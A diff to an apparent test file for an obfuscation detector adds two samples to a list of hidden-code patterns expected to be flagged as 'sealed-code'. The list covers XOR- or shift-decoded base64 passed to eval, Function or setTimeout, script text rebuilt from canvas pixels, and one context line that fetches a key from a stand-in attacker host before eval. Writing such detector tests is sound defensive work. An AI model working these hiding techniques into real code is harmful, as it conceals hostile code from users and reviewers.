@@ -67,6 +67,8 @@ describe('obfuscation', () => {
       `const d = [${masked}]; eval(d.map((x) => String.fromCharCode(x ^ new Date().getFullYear() % 100)).join(''))`,
       `class Box { open(t, k) { let o = ''; for (const c of atob(t)) o += String.fromCharCode(c.charCodeAt(0) ^ k); return o; } } Function(new Box().open('${base64}', navigator.languages.length))()`,
       `function turn(t, k) { return atob(t).split('').map((c) => String.fromCharCode(c.charCodeAt(0) - k)).join(''); } fetch('https://keys.attacker.dev').then((a) => a.json()).then((k) => (0, eval)(turn('${base64}', k)))`,
+      `const d = '${base64}'; setTimeout(atob(d).split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ screen.width)).join(''), 9)`,
+      `const d = pen.getImageData(0, 0, 40, 40).data; let s = ''; for (let i = 0; i < d.length; i += 4) s += String.fromCharCode(d[i]); const e = document.createElement('script'); e.textContent = s;`,
     ]) {
       assert.ok(kinds(source).includes('sealed-code'), source);
     }
